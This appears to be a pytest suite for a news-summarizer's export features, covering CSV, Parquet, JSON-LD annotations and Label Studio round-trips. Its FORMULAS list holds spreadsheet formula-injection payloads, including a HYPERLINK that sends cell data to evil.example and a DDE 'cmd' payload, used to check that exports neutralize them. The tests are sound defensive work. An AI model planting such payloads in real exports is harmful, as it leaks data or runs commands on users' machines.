"""Exports, read back with the tools they are for: csv and LibreOffice, pyarrow, PyLD, and our own gold loader."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT
from hypothesis import given
from hypothesis import strategies as st

from summarizer import cli
from summarizer.exports import jsonld, label_studio, tables
from summarizer.people import who_is_who
from summarizer.score import gold
from summarizer.summary import Summary

GOLD = ROOT / "evals" / "gold"
REPLAY = ["--recordings", str(ROOT / "fixtures" / "recordings"), "--model", "strong/2026-11"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''", "\x00=1",
]  # fmt: skip
HIDDEN = [
    "\u200b", "\ufeff", "\u00a0", " ", "\u2060", "\u200e", "\u202e", "\u00ad", "\u2003", "\u3000", "\u2028", "\u3164",
    "\u2800", "\x0b", "\x1f", "\x7f", "\u180e", "\ufe0f", "\u034f", "\U000e0020", " \u200b\t\ufeff\u00a0",
]  # fmt: skip
LIKE_SIGNS = [
    *"=+-@", *"＝＋－＠", *"﹦﹢﹣﹫", *"⁼⁺⁻", *"₌₊₋", "\u2212", "\u2010", "\u2011", "\u2012", "\u2013", "\u2014", "\u2015",
    "\u02d7", "\u2796", "\u2795", "\u207b", "\ua78a", "\ufb29",
]  # fmt: skip


@pytest.fixture(scope="module")
def summaries(tmp_path_factory) -> Path:
    """The six fixture articles, summarized from recordings, with their text."""
    out = tmp_path_factory.mktemp("made") / "all.jsonl"
    articles = sorted(str(p) for p in (ROOT / "fixtures" / "articles").glob("*.txt"))
    with pytest.raises(SystemExit) as stop:
        cli.run([*articles, *REPLAY, "--with-text", "-o", str(out)])
    assert stop.value.code == 0
    return out


def read(path: Path) -> list[Summary]:
    return [Summary.model_validate_json(line) for line in path.read_text().splitlines()]


def export(*words: str) -> int:
    with pytest.raises(SystemExit) as stop:
        cli.run(["export", *words])
    return int(stop.value.code or 0)


def test_with_text_every_span_is_a_slice_of_the_text_that_comes_with_it(summaries):
    assert len(read(summaries)) > 1
    for summary in read(summaries):
        assert summary.article.text
        summary.check_spans(summary.article.text)


def test_csv_and_parquet_say_the_same_and_every_row_leads_back_to_the_words(summaries, tmp_path):
    import pyarrow.parquet as pq

    assert export(str(summaries), "--to", "csv", "-o", str(tmp_path)) == 0
    assert export(str(summaries), "--to", "parquet", "-o", str(tmp_path)) == 0
    texts = {s.article.id: s.article.text or "" for s in read(summaries)}
    for name, columns in tables.COLUMNS.items():
        with (tmp_path / f"{name}.csv").open(newline="", encoding="utf-8") as file:
            found = list(csv.DictReader(file))
        table = pq.read_table(tmp_path / f"{name}.parquet").to_pylist()
        made = [who_is_who(s) if name == "people" else getattr(s, name) for s in read(summaries)]
        assert len(found) == len(table) == sum(map(len, made))
        assert list(found[0]) == list(columns) == list(table[0])
        for row, other in zip(found, table, strict=True):
            assert {k: tables.armed(v) for k, v in row.items()} == {
                k: "" if v is None else str(v) for k, v in other.items()
            }
            words = " … ".join(texts[row["article_id"]][a:b] for a, b in json.loads(row["spans"]))
            if name != "people":
                assert words == other[{"quotes": "text", "claims": "evidence", "events": "trigger"}[name]]


@pytest.mark.parametrize("sign", LIKE_SIGNS)
@pytest.mark.parametrize("hidden", ["", *HIDDEN])
def test_a_formula_is_seen_behind_what_shows_nothing_and_in_every_form_of_its_sign(hidden, sign):
    cell = f"{hidden}{sign}1+1"

    assert tables.disarmed(cell) == f"'{cell}"
    assert tables.armed(f"'{cell}") == cell


@pytest.mark.parametrize("cell", ["The fire", " 1 a", "“= no”", "é", "\u200b", "", "1-2", "a@b", "\u00a0x", 5, None])
def test_other_cells_stay_as_they_are(cell):
    assert tables.disarmed(cell) == cell


@pytest.mark.parametrize("between", [";", "\n", "\t", '" ; "', "\r\n "])
def test_a_formula_is_seen_where_a_program_cuts_inside_a_cell(between):
    assert tables.disarmed(f"He left{between}=1+1; – and") == f"He left{between}'=1+1; – and"
    assert tables.armed(f"He left{between}'=1+1; – and") == f"He left{between}=1+1; – and"


@given(st.text(st.sampled_from("'=+-@;\n\" \u200b\ufeff\u00a0－a") | st.characters()))
def test_disarming_a_cell_is_undone_without_loss(cell):
    assert tables.armed(tables.disarmed(cell)) == cell
    assert not tables.disarmed(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"))


def hostile(summaries: Path) -> Summary:
    """A summary whose quotations and names are formulas."""
    summary = read(summaries)[0]
    quotes = [
        summary.quotes[0].model_copy(update={
            "id": f"q{number}", "content": [summary.quotes[0].content[0].model_copy(update={"text": formula})],
        })
        for number, formula in enumerate(FORMULAS, start=1)
    ]  # fmt: skip
    return summary.model_copy(update={"quotes": quotes})


def test_a_hostile_cell_comes_back_as_it_was_written(summaries, tmp_path):
    tables.write([hostile(summaries)], tmp_path, "csv")
    with (tmp_path / "quotes.csv").open(newline="", encoding="utf-8") as file:
        assert [tables.armed(row["text"]) for row in csv.DictReader(file)] == FORMULAS


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice Calc is not installed")
def test_a_spreadsheet_program_runs_no_formula(summaries, tmp_path):
    import zipfile

    tables.write([hostile(summaries)], tmp_path, "csv")
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "ods", "--outdir",
         str(tmp_path), str(tmp_path / "quotes.csv")], check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    sheet = zipfile.ZipFile(tmp_path / "quotes.ods").read("content.xml").decode()
    assert "table:formula" not in sheet
    assert "HYPERLINK" in sheet


def local_contexts(url: str, _: Any) -> dict[str, Any]:
    terms = "id type motivation body target source selector value purpose exact prefix suffix start end items".split()
    context: dict[str, Any] = {term: f"http://www.w3.org/ns/oa#{term}" for term in terms} | {
        "id": "@id",
        "type": "@type",
        "@vocab": "http://www.w3.org/ns/oa#",
    }
    assert url == "http://www.w3.org/ns/anno.jsonld"
    return {
        "contentType": "application/ld+json",
        "contextUrl": None,
        "documentUrl": url,
        "document": {"@context": context},
    }


def test_web_annotations_are_linked_data_and_find_their_words_both_ways(summaries, tmp_path):
    from pyld import jsonld as reader

    assert export(str(summaries), "--to", "annotations", "-o", str(tmp_path), "--base", "https://news.example/a") == 0
    texts = {s.article.id: s.article.text or "" for s in read(summaries)}
    lines = (tmp_path / "annotations.jsonl").read_text().splitlines()
    assert len(lines) == len(texts) > 1
    for line in lines:
        page = json.loads(line)
        text = texts[page["id"].removeprefix("urn:sha256:").partition("#")[0]]
        assert page["items"]
        for item in page["items"]:
            for target in item["target"] if isinstance(item["target"], list) else [item["target"]]:
                position, words = target["selector"]
                assert target["source"].startswith("https://news.example/a/")
                assert text[position["start"] : position["end"]] == words["exact"]
                assert words["prefix"] + words["exact"] + words["suffix"] in text
        expanded = reader.expand(page, {"documentLoader": local_contexts})
        assert len(expanded[0]["http://www.w3.org/ns/oa#items"]) == len(page["items"])


def test_schema_org_data_expands_and_quotes_only_the_article(summaries, tmp_path):
    from pyld import jsonld as reader

    assert export(str(summaries), "--to", "schema.org", "-o", str(tmp_path)) == 0
    for line, summary in zip((tmp_path / "schema-org.jsonl").read_text().splitlines(), read(summaries), strict=True):
        graph = reader.expand(json.loads(line))
        kinds = [node["@type"][0].removeprefix("https://schema.org/") for node in graph]
        said = [n["https://schema.org/text"][0]["@value"] for n in graph if n["@type"][0].endswith("Quotation")]
        assert kinds.count("NewsArticle") == 1
        assert kinds.count("Quotation") == len(summary.quotes)
        assert kinds.count("Claim") == len(summary.claims)
        for words in said:
            assert all(part in (summary.article.text or "") for part in words.split(" … "))


def test_half_an_emoji_and_a_document_as_speaker_survive(summaries):
    summary = read(summaries)[0]
    source = summary.quotes[0].speaker
    assert source is not None
    quote = summary.quotes[0].model_copy(update={"speaker": source.model_copy(update={"kind": "document"})})
    graph = jsonld.schema_org(summary.model_copy(update={"quotes": [quote]}))["@graph"]
    assert graph[1]["spokenByCharacter"]["@type"] == "CreativeWork"


def as_labelled(task: dict[str, Any]) -> dict[str, Any]:
    """What Label Studio exports when somebody submits a prediction as it is."""
    return {"id": 1, "data": task["data"], "annotations": [
        {"id": 7, "was_cancelled": True, "result": [], "updated_at": "2026-02-01"},
        {"id": 8, "completed_by": {"email": "a@desk.example"}, "result": task["predictions"][0]["result"],
         "updated_at": "2026-01-01"},
    ]}  # fmt: skip


def test_our_own_labels_go_to_label_studio_and_come_back_the_same():
    lost = []
    for case in gold.load(GOLD):
        summary = Summary(
            article=case.gold.article, status="ok", quotes=case.gold.quotes, claims=case.gold.claims,
            events=case.gold.events, rejected=[], run={"model": "m", "prompts": "p"},
        )  # fmt: skip
        task = json.loads(json.dumps(label_studio.task(summary, case.article.text)))
        text, person, quotes, claims, events = label_studio.labelled(as_labelled(task))
        assert (text, person) == (case.article.text, "a@desk.example")
        for before, after in ((summary.quotes, quotes), (summary.claims, claims), (summary.events, events)):
            before_all = sorted((plain(item) for item in before), key=str)
            after_all = sorted((plain(item) for item in after), key=str)
            lost += [(case.name, a, b) for a, b in zip(before_all, after_all, strict=True) if a != b]
    assert lost == []


def plain(item: Any) -> dict[str, Any]:
    """An item without its id and its order of roles, which follow the text, and the sentence around an event."""
    found = {k: v for k, v in item.model_dump().items() if k not in ("id", "quote_ids", "evidence") or k == "content"}
    roles = {k: sorted(found[k], key=lambda m: m["span"]["start"]) for k in ("actors", "targets") if k in found}
    return found | roles


def test_labels_made_elsewhere_can_be_scored(summaries, tmp_path, capsys):
    assert export(str(summaries), "--to", "label-studio", "-o", str(tmp_path)) == 0
    tasks = json.loads((tmp_path / "tasks.json").read_text())
    (tmp_path / "export.json").write_text(json.dumps([as_labelled(task) for task in tasks]))
    with pytest.raises(SystemExit) as stop:
        cli.run(["labels", str(tmp_path / "export.json"), "-o", str(tmp_path / "mine"), "--split", "dev"])
    assert not stop.value.code
    cases = gold.load(tmp_path / "mine")
    assert [case.gold.split for case in cases] == ["dev"] * 6
    with pytest.raises(SystemExit) as stop:
        cli.run(["eval", "--gold", str(tmp_path / "mine"), *REPLAY, "--report", "json"])
    assert not stop.value.code
    figures = json.loads(capsys.readouterr().out)
    assert '"f1": 1.0' in json.dumps(figures)


def test_offsets_in_utf16_units_are_found_out():
    text = "🙂🙂 “We stay,” said Lena Ortiz on Monday."
    start = text.index("We stay")
    value = {"start": start + 2, "end": start + 10, "text": "We stay,", "labels": ["Quote"]}
    task = {"data": {"text": text}, "annotations": [{"result": [{"id": "a", "type": "labels", "value": value}]}]}
    _, _, [quote], _, _ = label_studio.labelled(task)
    assert quote.content[0].text == "We stay,"
    value["text"] = "something else"
    with pytest.raises(label_studio.LabelsError, match="something else"):
        label_studio.labelled(task)


@pytest.mark.parametrize(
    ("content", "code", "word"),
    [(b'{"x": 1}\n', 65, "no summary"), (b"\x00\xff\n", 65, "no summary"), (None, 66, "does not exist")],
)
def test_what_holds_no_summaries_is_said_in_one_line(tmp_path, capsys, content, code, word):
    path = tmp_path / "a.jsonl"
    if content is not None:
        path.write_bytes(content)
    assert export(str(path), "--to", "csv", "-o", str(tmp_path / "t")) == code
    err = capsys.readouterr().err
    assert word in err
    assert "Traceback" not in err


def test_label_studio_itself_accepts_tasks_and_predictions(summaries, tmp_path):
    # The SDK pulls in a computer vision library, so it is no development dependency: pip install label-studio-sdk
    interface = pytest.importorskip("label_studio_sdk.label_interface").LabelInterface(label_studio.config())
    assert export(str(summaries), "--to", "label-studio", "-o", str(tmp_path)) == 0
    for task in json.loads((tmp_path / "tasks.json").read_text()):
        assert interface.validate_task({"data": task["data"]})
        assert interface.validate_prediction(task["predictions"][0], return_errors=True) == []
